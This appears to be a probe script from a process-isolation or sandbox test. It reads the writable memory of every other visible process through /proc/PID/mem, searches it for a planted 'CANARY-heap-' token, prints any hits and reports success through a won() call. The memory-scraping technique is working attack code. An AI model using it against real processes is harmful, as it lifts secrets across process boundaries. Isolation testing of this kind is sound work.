# Looks for a secret in the heap of every process that it can see.
import glob, os, re
for folder in glob.glob('/proc/[0-9]*'):
    if int(folder[6:]) == os.getpid():
        continue
    try:
        maps, memory = open(folder + '/maps').read(), open(folder + '/mem', 'rb')
    except OSError:
        continue
    for line in maps.splitlines():
        area = re.match(r'([0-9a-f]+)-([0-9a-f]+) rw', line)
        start, end = (int(area[1], 16), int(area[2], 16)) if area else (0, 0)
        if not area or end - start > 64 << 20:
            continue
        try:
            memory.seek(start)
            found = re.findall(rb'CANARY-heap-[0-9a-f]{16}', memory.read(end - start))
        except (OSError, ValueError, OverflowError):
            continue
        for secret in set(found):
            print(secret.decode())
            won('read the memory in ' + folder)
